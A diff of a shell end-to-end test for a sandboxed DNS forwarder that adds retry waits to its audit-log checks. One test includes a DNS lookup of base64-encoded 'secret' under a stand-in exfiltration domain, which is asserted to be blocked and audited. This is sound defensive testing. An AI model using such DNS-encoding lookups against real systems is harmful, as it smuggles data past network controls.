@@ -45,7 +45,7 @@ expect "getent hosts api.test resolves through the forwarder" "$UP4 " \
     as_uid 1000 app getent ahostsv4 api.test
 check "... the resolver got the query from botbox (uid 1337 in app)" resolver_saw api.test
 check "... and it is audited: dns, allow, qname, qtype" \
-    bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"decision\":\"allow\"' |
+    wait_for 3 bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"decision\":\"allow\"' |
              grep -F '\"qname\":\"api.test\"' | grep -qF '\"qtype\":\"A\"'"
 start=$(date +%s%N)
 refute "getent hosts c2VjcmV0.exfil.test: not found" as_uid 1000 app getent hosts c2VjcmV0.exfil.test
@@ -53,7 +53,7 @@ ms=$((($(date +%s%N) - start) / 1000000))
 check "... in under 1 s (${ms} ms)" test "$ms" -lt 1000
 refute "... the resolver never saw that name" grep -qi "exfil" "$E2E_TMP/dnsmasq.log"
 check "... audited as a denial with the name" \
-    bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"decision\":\"deny\"' |
+    wait_for 3 bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"decision\":\"deny\"' |
              grep -qF '\"qname\":\"c2vjcmv0.exfil.test\"'"
 expect "a name under a wildcard rule resolves" "$UP4" as_uid 1000 app getent ahostsv4 x.wild.test
 refute "the wildcard's apex does not" as_uid 1000 app getent hosts wild.test
@@ -89,7 +89,7 @@ check "with enforce_names: false (after SIGHUP) any name resolves" \
     wait_for 3 bash -c "ip netns exec ${NS[app]} setpriv --reuid=1000 --regid=1000 --clear-groups \
         getent ahostsv4 other.test | grep -q $UP4"
 check "... and is still audited (would_deny)" \
-    bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"qname\":\"other.test\"' |
+    wait_for 3 bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -F '\"qname\":\"other.test\"' |
              grep -qF '\"decision\":\"would_deny\"'"
 serve_stop
 
@@ -99,7 +99,7 @@ sed -i "s/^  enforce_names: true$/  enforce_names: true\n  upstream: $OTHER/" "$
 serve_start app "$E2E_TMP/dns.yaml"
 expect "a resolver that refuses (port unreachable): the client gets SERVFAIL" "status: SERVFAIL" \
     as_uid 1000 app dig +time=4 +tries=1 @$UP4 api.test
-check "... audited as an upstream error" bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl |
+check "... audited as an upstream error" wait_for 3 bash -c "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl |
     grep -F '\"decision\":\"error\"' | grep -qF '\"reason\":\"upstream_error\"'"
 serve_stop
 finish
